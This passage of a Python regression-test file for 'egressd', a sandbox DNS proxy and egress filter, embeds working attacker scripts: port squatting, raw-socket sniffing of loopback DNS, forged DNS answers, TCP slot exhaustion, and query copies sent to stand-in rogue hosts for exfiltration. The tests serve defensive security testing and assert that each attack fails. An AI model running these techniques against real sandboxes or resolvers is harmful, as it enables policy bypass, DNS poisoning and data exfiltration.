            r = lab.dns_query(f"{t}.denied.example.net", server=server, tcp=tcp)
            assert (r.outcome, r.rcode) == ("ok", "REFUSED"), (server, tcp, r)
    if phase == "agent":
        assert lab.tcp_connect(WILD_V4, 80) == "ok"
    assert rejected(lab.tcp_connect("198.51.100.11", 80))
    res = attacker_result(squatter)
    assert res["received"] == 0, f"the squatter got {res['received']} of the sandbox's queries"
    # And the next restart, with the squatter gone, moves back to port 53.
    d.restart()
    assert lab.dns_query(f"b.{t}.wild.example.org").rcode == want
    assert "ip_unprivileged_port_start" not in d.log().split("--- ")[-1]


# uid 65534 (Docker: ip_unprivileged_port_start=0): holds UDP 127.0.0.1:53 and [::1]:53
# (argv[3] == "1"), and binds a TCP socket to [::1]:P for every P in [argv[1], argv[2]), until a
# line on stdin. Prints how many it held.
PORT_HOG = r"""
import json, resource, socket, sys
lo, hi, squat53 = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3] == "1"
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
socks, held = [], 0
if squat53:
    for fam, addr in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        s = socket.socket(fam, socket.SOCK_DGRAM); s.bind((addr, 53)); socks.append(s)
for port in range(lo, hi):
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    try:
        s.bind(("::1", port)); socks.append(s); held += 1
    except OSError:
        s.close()
print("READY", flush=True)
sys.stdin.readline()
for s in socks:
    s.close()
print(json.dumps({"held": held}), flush=True)
"""


def hog_every_proxy_port(lab) -> list:
    """Two uid-65534 processes (a process's descriptor limit is 1M under Docker, 2^20 here at most
    as well) that hold port 53 and every port the proxy could fall back to: the ephemeral range,
    made 64 ports here so that holding all of it is cheap (under Docker it is 28,232)."""
    lab.sandbox.sysctl("net.ipv4.ip_local_port_range", "40000 40063")
    lo, hi = (int(x) for x in lab.sandbox.read_proc("/proc/sys/net/ipv4/ip_local_port_range").split())
    mid = (lo + hi + 1) // 2
    return [attacker(lab, PORT_HOG, lo, mid, "1", uid=True), attacker(lab, PORT_HOG, mid, hi + 1, "0", uid=True)]


def release(hogs) -> list[dict]:
    out = []
    for h in hogs:
        h.stdin.write(b"\n")
        h.stdin.flush()
        out.append(attacker_result(h))
    return out


def test_egressd_comes_up_enforcing_when_the_sandbox_holds_every_port_its_proxy_could_use(lab, egressd):
    """Found by an attack review: under Docker a uid-65534 process held 127.0.0.1:53, [::1]:53 and
    a TCP socket on [::1] at every ephemeral port while egressd was down; the fallback port never
    fit all four sockets and egressd exited ("bind tcp [::1]:N: Address already in use"): no control
    socket, the phase before the restart stuck in the kernel. Now egressd comes up without its
    proxy, enforces the policy and switches, says why, and the proxy listens on port 53 once the
    sandbox lets go."""
    serve(lab)
    lab.sandbox.sysctl("net.ipv4.ip_unprivileged_port_start", 0)
    d = egressd(policy(DNS_V4))  # agent: allowlist
    d.stop()
    hogs = hog_every_proxy_port(lab)
    try:
        d.start(timeout=10.0)
        assert "the DNS proxy cannot listen" in d.log(), d.log()[-2000:]
        t = tok()
        r = lab.dns_query(f"{t}.wild.example.org", timeout=2.0)
        assert r.rcode != "NOERROR", r  # nothing resolves through egressd: nothing to learn
        assert not lab.learned_set(4)
        # (No TCP connect while the ports are held: the kernel finds no free port for one.)
        assert d.request({"cmd": "apply", "phase": "environment"}).get("ok") is True
        assert d.request({"cmd": "apply", "phase": "verifier"}).get("ok") is True
    finally:
        held = release(hogs)
    assert sum(h["held"] for h in held) >= 60, held  # the ports were held (egressd exited before)
    assert rejected(lab.tcp_connect(WILD_V4, 80))  # no-network: the switches took effect
    labmod.wait_for(lambda: "the DNS proxy listens on port 53 now" in d.log(), 5.0, "the proxy to listen again")
    assert d.request({"cmd": "apply", "phase": "agent"}).get("ok") is True
    t = tok()
    for server in (DNS_V4, DNS_V6):
        for tcp in (False, True):
            r = lab.dns_query(f"{server.replace(':', '-')}{int(tcp)}.{t}.wild.example.org", server=server, tcp=tcp)
            assert (r.outcome, r.rcode) == ("ok", "NOERROR"), (server, tcp, r)
    assert lab.tcp_connect(WILD_V4, 80) == "ok"


# --- Docker's loop --------------------------------------------------------------------------------------


def test_docker_resolver_names_and_services_resolve_without_a_loop(lab, egressd):
    """Allowed names (forwarded by Docker's resolver from inside the namespace, where the redirect
    brings them back to egressd) and Compose service names (answered by Docker's resolver) resolve;
    denied names never reach Docker's resolver or the upstream; nothing loops."""
    serve(lab)
    docker = DockerResolver(lab, services={"db": "172.18.0.5"})
    d = docker_egressd(lab, egressd)
    t = tok()
    for i, (qtype, tcp) in enumerate((("A", False), ("AAAA", False), ("A", True))):
        name = f"n{i}.{t}.wild.example.org"
        r = lab.dns_query(name, qtype, tcp=tcp, timeout=3.0)
        assert (r.outcome, r.rcode) == ("ok", "NOERROR"), (name, r)
        assert r.addresses == [WILD_V6 if qtype == "AAAA" else WILD_V4], r
    assert lab.tcp_connect(WILD_V4, 80) == "ok"
    assert lab.tcp_connect(WILD_V6, 80) == "ok"
    r = lab.dns_query("db", timeout=3.0)
    assert (r.rcode, r.addresses) == ("NOERROR", ["172.18.0.5"]), r
    assert "172.18.0.5" in lab.learned_set(4), "an exact name keeps its private answer"
    r = lab.dns_query(f"{t}.denied.example.net")
    assert r.rcode == "REFUSED" and r.outcome.elapsed < FAST
    # Docker forwarded each allowed name once, the upstream saw each once, none loops.
    assert sorted(e["name"] for e in docker.events("forward", t)) == sorted(
        f"n{i}.{t}.wild.example.org" for i in range(3))
    lab.dns.sync()
    up = [q.name.lower() for q in lab.dns.queries() if t in q.name.lower()]
    assert sorted(up) == sorted(f"n{i}.{t}.wild.example.org" for i in range(3)), up
    assert not [e for e in docker.events(token="denied")], "a denied name reached Docker's resolver"
    st = d.status()["dns"]
    assert st["relayed"] >= 3 and st["failed"] == 0, st
    assert "inflight_limit" not in d.log()
    pinned = events(d, "forwarder_pinned")
    assert pinned and pinned[-1]["targets"] == [DNS_V4] and pinned[-1]["source"] == "probe", pinned


def test_docker_resolver_no_network_refuses_and_forwards_nothing(lab, egressd):
    serve(lab)
    docker = DockerResolver(lab, services={"db": "172.18.0.5"})
    d = docker_egressd(lab, egressd, phase="verifier")
    t = tok()
    for name in (f"{t}.wild.example.org", "db", f"{t}.denied.example.net"):
        for server, tcp in ((DNS_V4, False), (DNS_V6, False), (DNS_V4, True), ("127.0.0.11", False)):
            r = lab.dns_query(name, server=server, tcp=tcp)
            assert (r.outcome, r.rcode) == ("ok", "REFUSED"), (name, server, tcp, r)
    lab.dns.sync()
    assert not [q for q in lab.dns.queries() if t in q.name.lower()], "the upstream saw a refused name"
    assert not docker.events("query", t), docker.events()
    assert not [e for e in docker.events("query") if e["name"] == "db"], docker.events()
    assert d.status()["dns"]["forwarded"] == 0


def test_docker_forwarder_target_survives_a_restart_without_a_probe(lab, egressd):
    serve(lab)
    DockerResolver(lab)
    d = docker_egressd(lab, egressd)
    assert len(events(d, "forwarder_pinned")) == 1
    d.restart()
    labmod.wait_for(lambda: len(events(d, "forwarder_pinned")) == 2, 5.0, "the kept target to be pinned again")
    again = events(d, "forwarder_pinned")[-1]
    assert again["source"] == "kernel" and again["targets"] == [DNS_V4], again
    last_start = d.log().split("--- ")[-1]
    assert "forwarder_probe" not in last_start, "egressd probed again instead of adopting the kept target"
    r = lab.dns_query(f"{tok()}.wild.example.org", timeout=3.0)
    assert (r.rcode, r.addresses) == ("NOERROR", [WILD_V4]), r


def test_docker_extservers_in_resolv_conf_pin_the_target(lab, egressd):
    """Docker >= 25 says where its resolver forwards: `# ExtServers: [...]` in resolv.conf. egressd
    (run as a process of the namespace, with its resolv.conf, upstream `resolv.conf`) takes the
    target from there and probes nothing."""
    serve(lab)
    DockerResolver(lab)
    etc = Path("/etc/netns") / lab.sandbox.name
    etc.mkdir(parents=True, exist_ok=True)
    try:
        (etc / "resolv.conf").write_text(
            "# Generated by Docker Engine.\nnameserver 127.0.0.11\noptions ndots:0\n\n"
            "# Based on host file: '/etc/resolv.conf' (internal resolver)\n"
            f"# ExtServers: [{DNS_V4} host(127.0.0.53)]\n# Overrides: []\n")
        binary = ["ip", "netns", "exec", lab.sandbox.name, str(labmod.egressd_binary())]
        d = lab.egressd(policy("resolv.conf"), extra=["--log-format", "json"], binary=binary)
        labmod.wait_for(lambda: events(d, "forwarder_pinned"), 5.0, "the target from resolv.conf")
        pinned = events(d, "forwarder_pinned")[-1]
        assert pinned["source"] == "resolv.conf" and pinned["targets"] == [DNS_V4], pinned
        assert "forwarder_probe" not in d.log()
        r = lab.dns_query(f"{tok()}.wild.example.org", timeout=3.0)
        assert (r.rcode, r.addresses) == ("NOERROR", [WILD_V4]), r
        d.stop()
    finally:
        (etc / "resolv.conf").unlink(missing_ok=True)
        etc.rmdir()


# A root process with only NET_RAW sniffs loopback for egressd's query to 127.0.0.11 carrying
# `token`, and sends a copy of it, byte for byte, to its own resolver ROGUE:53 (the redirect brings
# it to egressd's proxy, where it matches egressd's in-flight query).
RACER = textwrap.dedent(r'''
    import json, socket, sys, time
    token, rogue, seconds = sys.argv[1].lower().encode(), sys.argv[2], float(sys.argv[3])
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    sniff.bind(("lo", 0))
    sniff.settimeout(0.05)
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.settimeout(2)
    print("READY", flush=True)
    copies, answers = 0, []
    seen = set()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            frame = sniff.recv(65535)
        except socket.timeout:
            continue
        pkt = frame[14:]
        if len(pkt) < 40 or pkt[9] != 17 or pkt[16:20] != socket.inet_aton("127.0.0.11"):
            continue
        q = pkt[(pkt[0] & 0xF) * 4 + 8:]
        if len(q) < 17 or q[2] & 0x80 or token not in q.lower() or q in seen:
            continue
        seen.add(q)
        out.sendto(q, (rogue, 53))
        copies += 1
        try:
            a = out.recv(65535)
            answers.append(a.hex())
        except OSError as e:
            answers.append(str(e))
    print(json.dumps({"copies": copies, "answers": answers}))
''')
ROGUE = "203.0.113.53"


def rogue_resolver(lab) -> Path:
    """A resolver of the attacker's at ROGUE:53 in the internet namespace, answering every name with
    FORGED_V4; returns its query log."""
    log = lab.tmp / "rogue.jsonl"
    lab.internet.ip("addr", "add", f"{ROGUE}/32", "dev", "lo")
    rp = lab.spawn([sys.executable, str(HERE / "dnsserver.py"), "record", "--addr", ROGUE, "--port", 53,
                    "--answer", FORGED_V4, "--log", str(log)], netns=lab.internet,
                   stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert labmod._read_line(rp, 10.0, "the rogue resolver").startswith("READY")
    return log


def test_a_racing_copy_of_egressds_query_is_relayed_only_to_the_target(lab, egressd):
    serve(lab)
    lab.add_servers([FORGED_V4])
    rogue_log = rogue_resolver(lab)
    # Docker's resolver takes 400 ms to forward names starting with "slow": the copy arrives
    # while egressd's own query is still in flight.
    DockerResolver(lab, slow={"slow": 400})
    d = docker_egressd(lab, egressd)
    t = tok()
    racer = attacker(lab, RACER, t, ROGUE, 4.0, caps=DOCKER_CAPS)
    r = lab.dns_query(f"slow.{t}.wild.example.org", timeout=4.0)
    res = attacker_result(racer)
    print(f"\nracer: {res['copies']} copies; egressd answered {r.rcode} {r.addresses}")
    assert res["copies"] >= 1, f"the racer saw no query of egressd's to copy: {res}"
    assert (r.rcode, r.addresses) == ("NOERROR", [WILD_V4]), r
    for a in res["answers"]:
        assert FORGED_V4 not in a and socket.inet_aton(FORGED_V4).hex() not in a, res
    assert not rogue_log.exists() or t not in rogue_log.read_text(), "egressd relayed the copy to the rogue resolver"
    assert FORGED_V4 not in lab.learned_set(4)
    assert d.status()["dns"]["relayed"] >= 2  # the copy and Docker's forward, both to the target


# Docker's forwarded copy of egressd's query is redirected to the proxy at 127.0.0.1:53 or [::1]:53;
# the proxy's answer goes back to Docker's socket over `lo`, in the reply direction of that flow.
# This process sniffs `lo` for the copy (its ID, 0x20 case and Docker's port) and writes the
# "proxy's answer" itself, from the proxy's address and port, with the attacker's address: from
# a raw socket (chain output sees it) or as a frame written to `lo` with AF_PACKET (it never
# does). Conntrack would take it as the reply of the redirected flow and undo the redirect, and
# Docker hand it to egressd as its upstream's answer. argv: name, forged address, raw | packet.
PROXY_FORGER = textwrap.dedent(r"""
    import json, socket, struct, sys, time
    name, forged, how = sys.argv[1], sys.argv[2], sys.argv[3]
    wire = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    def csum(b):
        if len(b) % 2:
            b += b"\0"
        s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
        while s >> 16:
            s = (s & 0xffff) + (s >> 16)
        return ~s & 0xffff
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    sniff.bind(("lo", 0))
    sniff.settimeout(0.05)
    if how == "raw4":
        out_sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    elif how == "raw6":
        out_sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_UDP)
        out_sock.bind(("::1", 0))
    else:
        out_sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        out_sock.bind(("lo", 0))
    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    c.settimeout(4)
    c.bind(("0.0.0.0", 0))
    myport = c.getsockname()[1]
    print("READY", flush=True)
    c.sendto(struct.pack("!HHHHHH", 0x1111, 0x0100, 1, 0, 0, 0) + wire + struct.pack("!HH", 1, 1), ("192.0.2.1", 53))
    out = {"forged": None}
    deadline = time.monotonic() + 3
    while time.monotonic() < deadline and out["forged"] is None:
        try:
            f = sniff.recv(65535)
        except socket.timeout:
            continue
        p = f[14:]
        if f[12:14] == b"\x08\x00" and len(p) >= 28 and p[0] == 0x45 and p[9] == 17 and p[16:20] == socket.inet_aton("127.0.0.1"):
            v6, hl, src = False, 20, p[12:16]
        elif f[12:14] == b"\x86\xdd" and len(p) >= 48 and p[6] == 17 and p[24:40] == socket.inet_pton(socket.AF_INET6, "::1"):
            v6, hl, src = True, 40, p[8:24]
        else:
            continue
        sport, dport = struct.unpack_from("!HH", p, hl)
        q = p[hl + 8:]
        if dport != 53 or sport == myport or len(q) < 17 or q[2] & 0x80 or wire not in q.lower():
            continue
        qend = 12 + q[12:].lower().index(wire) + len(wire) + 4
        if q[qend - 4:qend - 2] != b"\x00\x01":
            continue  # not the A query
        ans = (q[:2] + struct.pack("!HHHHH", 0x8180 | (q[2] & 1) << 8, 1, 1, 0, 0) + q[12:qend]
               + b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 3600, 4) + socket.inet_aton(forged))
        ulen = 8 + len(ans)
        if v6:
            lo6 = socket.inet_pton(socket.AF_INET6, "::1")
            pseudo = lo6 + src + struct.pack("!IxxxB", ulen, 17)
            udp = struct.pack("!HHHH", 53, sport, ulen, 0)
            udp = udp[:6] + struct.pack("!H", csum(pseudo + udp + ans) or 0xffff)
            frame = bytes(12) + b"\x86\xdd" + struct.pack("!IHBB", 0x60000000, ulen, 17, 64) + lo6 + src + udp + ans
        else:
            udp = struct.pack("!HHHH", 53, sport, ulen, 0)
            hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + ulen, 0, 0x4000, 64, 17, 0,
                              socket.inet_aton("127.0.0.1"), src)
            hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
            frame = bytes(12) + b"\x08\x00" + hdr + udp + ans
        try:
            if how == "raw4":
                out_sock.sendto(frame[14:], (socket.inet_ntoa(src), 0))
            elif how == "raw6":
                out_sock.sendto(udp + ans, (socket.inet_ntop(socket.AF_INET6, src), 0))
            else:
                out_sock.send(frame)
            out["forged"] = "sent"
        except OSError as e:
            out["forged"] = f"refused: {e.strerror}"
    try:
        a = c.recv(65535)
        out["rcode"] = a[3] & 0xF
        out["answer_has_forged"] = socket.inet_aton(forged) in a
    except OSError as e:
        out["answer"] = str(e)
    print(json.dumps(out))
""")


@pytest.mark.parametrize("how", ["raw4", "packet6"])
def test_a_sandbox_cannot_write_the_proxys_answer_to_dockers_forwarded_copy(lab, egressd, how):
    """Found by an attack review: with Docker's default capabilities a sandbox process made egressd
    learn its own address for an allowed name, any time, 5 times out of 5. Chain output now drops
    what leaves from the proxy's address and port without the proxy sockets' secret mark, and
    chain lo_replies drops such a frame written to `lo` unless chain output signed it. Docker's
    copy travels over IPv6 when its upstream is an IPv6 address. (An IPv4 frame from 127.0.0.1
    written to `lo` is a martian on receipt: no packet variant for IPv4.)"""
    serve(lab)
    lab.add_servers([FORGED_V4], tcp=(22,))
    DockerResolver(lab, forward=DNS_V6 if how.endswith("6") else DNS_V4)
    d = docker_egressd(lab, egressd)
    assert events(d, "forwarder_pinned"), d.log()
    name = f"{tok()}.wild.example.org"
    res = attacker_result(attacker(lab, PROXY_FORGER, name, FORGED_V4, how, caps=DOCKER_CAPS))
    print(f"\n{how}: {res}")
    assert res["forged"] is not None, f"the forger saw no copy of egressd's query on lo: {res}"
    if how.startswith("raw"):
        assert res["forged"].startswith("refused"), res  # chain output's drop: EPERM
    assert res.get("rcode") == 0 and res.get("answer_has_forged") is False, res
    assert FORGED_V4 not in lab.learned_set(4)
    assert lab.tcp_connect(FORGED_V4, 22) != "ok"
    # The proxy's own answers still reach Docker's resolver and the sandbox.


# Finding F2 of attack review C: a NET_RAW process running when egressd starts on the namespace
# (Docker's resolver forwarding from inside it) copies the start-up probe once (a race: retried
# 10 s later), fills the proxy's TCP slots with connections "to" its resolver ROGUE:53 so that
# Docker's copy of the retry would be closed at accept, and answers the retry alone over a held
# connection. It tells the test where it stands on stdout ("HELD n", "COPIED ...") and holds its
# connections until its stdin closes.
PROBE_SLOTS_ATTACK = textwrap.dedent(r'''
    import json, socket, struct, sys, time
    rogue = sys.argv[1]
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))   # NET_RAW
    sniff.bind(("lo", 0))
    sniff.settimeout(0.05)
    seen = set()
    def probes(deadline, tick=None):
        while time.monotonic() < deadline:
            if tick:
                tick()
            try:
                f = sniff.recv(65535)
            except socket.timeout:
                continue
            p = f[14:]
            if len(p) < 40 or p[0] >> 4 != 4 or p[9] != 6:
                continue
            ihl = (p[0] & 0xF) * 4
            data = p[ihl + (p[ihl + 12] >> 4) * 4:]
            # queries only (QR clear): an answer carries the name too
            if len(data) > 14 and not data[4] & 0x80 and b"egressd-probe-" in data.lower() and data[14:] not in seen:
                seen.add(data[14:])
                yield data[2:]
    def refused_query(i):
        name = b"\x04keep" + bytes([len(str(i))]) + str(i).encode() + b"\x07example\x03net\x00"
        return struct.pack("!HHHHHH", i, 0x0100, 1, 0, 0, 0) + name + struct.pack("!HH", 1, 1)
    def exchange(c, q):
        c.sendall(struct.pack("!H", len(q)) + q)
        n = struct.unpack("!H", c.recv(2, socket.MSG_WAITALL))[0]
        return c.recv(n, socket.MSG_WAITALL)
    print("READY", flush=True)
    out = {"first": None, "second": None}
    # 1. the start-up probe: one extra copy (UDP) -> two arrivals -> no pin, retry in 10 s
    for q in probes(time.monotonic() + 20):
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.settimeout(3)
        u.sendto(q, ("198.51.100.99", 53))
        out["first"] = u.recv(65535)[3] & 0xF
        break
    # 2. fill the proxy's TCP slots with connections "to" ROGUE:53 (redirected to the proxy)
    held = []
    for i in range(70):
        try:
            c = socket.create_connection((rogue, 53), timeout=1)
            exchange(c, refused_query(i))
            held.append(c)
        except (OSError, struct.error) as e:
            out.setdefault("errors", []).append(repr(e))
    out["held"] = len(held)
    print("HELD", len(held), flush=True)
    last = [time.monotonic()]
    def keep_alive():
        # A whole query every 3 s: the proxy closes a connection idle for 10 s.
        if time.monotonic() - last[0] < 3:
            return
        last[0] = time.monotonic()
        for i, c in enumerate(held):
            try:
                exchange(c, refused_query(100 + i))
            except (OSError, struct.error):
                pass
    # 3. the retry: one copy over a held connection (original destination ROGUE:53)
    for q in probes(time.monotonic() + 20, keep_alive):
        out["second"] = exchange(held[0], q)[3] & 0xF
        break
    print("COPIED", out["second"], flush=True)
    sys.stdin.readline()   # held until the test has seen the probe end
    for c in held:
        c.close()
    print(json.dumps(out))
''')


def probe_slots_attack(lab, egressd, hosts):
    """Runs PROBE_SLOTS_ATTACK against an egressd started after it; returns the daemon once the
    attacker's copy of the retried probe has been judged (a pin, or the probe's end without one)
    and the attacker has let its connections go."""
    rogue_resolver(lab)
    DockerResolver(lab)
    p = attacker(lab, PROBE_SLOTS_ATTACK, ROGUE, caps=DOCKER_CAPS)
    d = egressd(policy("127.0.0.11", hosts=hosts), extra=["--log-format", "json"])
    held = labmod._read_line(p, 30.0, "the attacker to fill the slots")
    copied = labmod._read_line(p, 30.0, "the attacker to copy the retried probe")
    print(f"\nattacker: {held}; {copied}")
    assert copied != "COPIED None", "the attacker saw no retried probe"
    labmod.wait_for(lambda: events(d, "forwarder_pinned") or len(dns_events(d, "forwarder_probe_race")) >= 2, 10.0,
                    "the retried probe to end")
    res = attacker_result(p)
    print("attacker:", json.dumps(res))
    return d


def test_an_attacker_holding_the_tcp_slots_cannot_pin_its_resolver_through_the_probe(lab, egressd):
    """Before: ROGUE was pinned (`source: probe`), Docker's copies of egressd's queries went to it,
    egressd learned ROGUE's answer for allowed names (exact and wildcard), and a connection to it
    succeeded. Now the retried probe counts nothing (the slots were nearly full; the copy came over
    a connection older than the probe), and once the attacker lets go a later probe pins Docker's
    own target."""
    serve(lab)
    lab.add_servers([FORGED_V4], tcp=(80,))
    d = probe_slots_attack(lab, egressd, ["a.example.com", "*.wild.example.org"])
    assert not [e for e in events(d, "forwarder_pinned") if ROGUE in str(e["targets"])], events(d, "forwarder_pinned")
    reasons = [e.get("reason") for e in dns_events(d, "forwarder_probe_race")]
    assert "tcp_slots_nearly_full" in reasons, reasons
    pinned = labmod.wait_for(lambda: events(d, "forwarder_pinned"), 15.0, "a later probe to pin Docker's target")
    assert pinned[0]["targets"] == [DNS_V4] and pinned[0]["source"] == "probe", pinned
    r = lab.dns_query(f"{tok()}.wild.example.org", timeout=3.0)
    assert (r.rcode, r.addresses) == ("NOERROR", [WILD_V4]), r
    assert FORGED_V4 not in lab.learned_set(4)
    assert lab.tcp_connect(FORGED_V4, 80) != "ok"


def test_a_forwarder_target_kept_across_a_restart_is_never_the_attackers(lab, egressd):
    """Before: the attacker's pin was kept in the kernel and adopted by the next egressd
    (`source: kernel`), with the attacker long gone. Now what the restart adopts is the target a
    clean probe pinned once the attacker let go."""
    serve(lab)
    d = probe_slots_attack(lab, egressd, ["*.wild.example.org"])
    pinned = labmod.wait_for(lambda: events(d, "forwarder_pinned"), 15.0, "a later probe to pin Docker's target")
    assert pinned[0]["targets"] == [DNS_V4], pinned
    d.restart()
    labmod.wait_for(lambda: len(events(d, "forwarder_pinned")) >= 2, 5.0, "the kept target")
    again = events(d, "forwarder_pinned")[-1]
    assert again["source"] == "kernel" and again["targets"] == [DNS_V4], again
    r = lab.dns_query(f"{tok()}.wild.example.org", timeout=3.0)
    assert (r.rcode, r.addresses) == ("NOERROR", [WILD_V4]), r


# Finding F3 of attack review C: Docker's resolver forwards from outside the namespace (no copy of
# egressd's queries comes back, the start-up probe finds none). A NET_RAW process copies one of
# egressd's in-flight queries to ROGUE:53 (a relay with no target used to schedule a new probe),
# answers that probe alone over a connection to ROGUE:53, and then copies egressd's queries with
# qtypes of its choosing: each was relayed to ROGUE.
PROBE_TRIGGER_ATTACK = textwrap.dedent(r'''
    import json, socket, struct, sys, time
    token, rogue, wait = sys.argv[1].lower(), sys.argv[2], float(sys.argv[3])
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))   # NET_RAW
    sniff.bind(("lo", 0))
    sniff.settimeout(0.05)
    LO11 = socket.inet_aton("127.0.0.11")
    def build(name, qtype, qid=0x4242, flags=0x0100):
        q = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
        return struct.pack("!HHHHHH", qid, flags, 1, 0, 0, 0) + q + struct.pack("!HH", qtype, 1)
    def frames(deadline):
        while time.monotonic() < deadline:
            try:
                f = sniff.recv(65535)
            except socket.timeout:
                continue
            p = f[14:]
            if len(p) < 28 or p[0] >> 4 != 4 or p[16:20] != LO11:
                continue
            ihl = (p[0] & 0xF) * 4
            if p[9] == 17:
                yield "udp", p[ihl + 8:]
            elif p[9] == 6:
                data = p[ihl + (p[ihl + 12] >> 4) * 4:]
                if len(data) > 2:
                    yield "tcp", data[2:]
    def copy_of_inflight(name, qtype, dst):
        """Asks `name` (allowed) and copies egressd's own query to 127.0.0.11 to dst:53, which the
        redirect hands to egressd's proxy."""
        c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        c.sendto(build(name, qtype), ("192.0.2.1", 53))
        for kind, q in frames(time.monotonic() + 3):
            if kind == "udp" and name.split(".")[0].encode() in q.lower() and not q[2] & 0x80:
                o = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                o.settimeout(2)
                o.sendto(q, (dst, 53))
                try:
                    return {"copied": True, "rcode": o.recv(65535)[3] & 0xF}
                except OSError as e:
                    return {"copied": True, "rcode": str(e)}
        return {"copied": False}
    print("READY", flush=True)
    out = {}
    # 1. a copy of an in-flight query with no target pinned
    out["trigger"] = copy_of_inflight(f"slow0{token}.wild.example.org", 1, rogue)
    # 2. a probe within `wait` s (egressd retries after 10 s): one copy over TCP to ROGUE:53
    out["probe"] = None
    for kind, q in frames(time.monotonic() + wait):
        if kind == "tcp" and b"egressd-probe-" in q.lower():
            t = socket.create_connection((rogue, 53), timeout=3)
            t.sendall(struct.pack("!H", len(q)) + q)
            n = struct.unpack("!H", t.recv(2, socket.MSG_WAITALL))[0]
            out["probe"] = t.recv(n, socket.MSG_WAITALL)[3] & 0xF
            break
    print("PROBE", out["probe"], flush=True)
    sys.stdin.readline()   # until the test has seen that probe end
    # 3. copies of egressd's queries, with the attacker's qtypes
    out["exfil"] = [copy_of_inflight(f"slow{i}{token}.wild.example.org", 0x4000 + i, "198.51.100.99")
                    for i in range(1, 4)]
    print(json.dumps(out))
''')


def test_a_copy_after_a_probe_that_saw_none_starts_no_probe(lab, egressd):
    """Before: the copy scheduled a new probe, the attacker's one copy of it pinned ROGUE, and
    egressd relayed every later copy of its queries (sandbox-chosen names and qtypes) to ROGUE:53.
    Now a copy after a probe that saw none is answered SERVFAIL (`relay_refused`) and no probe
    runs; names still resolve through the resolver."""
    serve(lab)
    rogue_log = rogue_resolver(lab)
    HostSideResolver(lab)
    d = egressd(policy("127.0.0.11"), extra=["--log-format", "json"])
    labmod.wait_for(lambda: [e for e in dns_events(d, "forwarder_probe") if e.get("result") == "none"], 5.0,
                    "the start-up probe to find no copy")
    r = lab.dns_query(f"{tok()}.wild.example.org", timeout=3.0)
    assert (r.rcode, r.addresses) == ("NOERROR", [WILD_V4]), r
    t = tok()
    p = attacker(lab, PROBE_TRIGGER_ATTACK, t, ROGUE, 12.0, caps=DOCKER_CAPS)
    probe = labmod._read_line(p, 30.0, "the attacker to wait for a probe")
    if probe != "PROBE None":  # the old behaviour: wait for that probe's end before step 3
        labmod.wait_for(lambda: events(d, "forwarder_pinned") or dns_events(d, "forwarder_probe_race"), 5.0,
                        "the probe the copy started to end")
    res = attacker_result(p, timeout=40)
    print("\nattacker:", json.dumps(res))
    assert res["trigger"]["copied"], res
    assert probe == "PROBE None", "a copy of egressd's query started a new probe"
    assert dns_events(d, "relay_refused")
    assert not events(d, "forwarder_pinned")
    got = [json.loads(l) for l in rogue_log.read_text().splitlines()] if rogue_log.exists() else []
    assert not [g for g in got if g.get("kind") == "query" and t in g.get("name", "")], \
        "egressd sent sandbox-chosen queries to the attacker's server"
    r = lab.dns_query(f"{tok()}.wild.example.org", timeout=3.0)
    assert (r.rcode, r.addresses) == ("NOERROR", [WILD_V4]), r

# A sandbox process (Docker's NET_RAW, to sniff `lo`) running when egressd starts: it copies
# egressd's first probe once, over a fresh TCP connection, to its own resolver (redirected to the
# proxy), and prints "COPIED <rcode of the proxy's answer>". argv: rogue, seconds to wait.
FIRST_PROBE_COPIER = textwrap.dedent(r'''
    import json, socket, struct, sys, time
    rogue, wait = sys.argv[1], float(sys.argv[2])
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    sniff.bind(("lo", 0))
    sniff.settimeout(0.05)
    print("READY", flush=True)
    out = {"copy": None}
    deadline = time.monotonic() + wait
    while time.monotonic() < deadline and out["copy"] is None:
        try:
            f = sniff.recv(65535)
        except socket.timeout:
            continue
        p = f[14:]
        if len(p) < 40 or p[0] >> 4 != 4 or p[9] != 6:
            continue
        ihl = (p[0] & 0xF) * 4
        data = p[ihl + (p[ihl + 12] >> 4) * 4:]
        if len(data) <= 14 or data[4] & 0x80 or b"egressd-probe-" not in data.lower():
            continue
        q = data[2:]
        c = socket.create_connection((rogue, 53), timeout=3)
        c.sendall(struct.pack("!H", len(q)) + q)
        n = struct.unpack("!H", c.recv(2, socket.MSG_WAITALL))[0]
        out["copy"] = c.recv(n, socket.MSG_WAITALL)[3] & 0xF
        c.close()
    print("COPIED", out["copy"], flush=True)
    print(json.dumps(out))
''')


def test_a_lone_copy_of_the_first_probe_pins_nothing_when_the_resolver_forwards_from_outside(lab, egressd):
    """Docker forwarding from the host's namespace (host resolver on loopback, Docker < 25)
    answers egressd's probe from there, NXDOMAIN as any resolver answers a .invalid name, and no
    copy of its own reaches the proxy. A NET_RAW process running at start sent the one copy that
    arrived, over a fresh connection, to its own resolver: egressd pinned it, relayed copies of
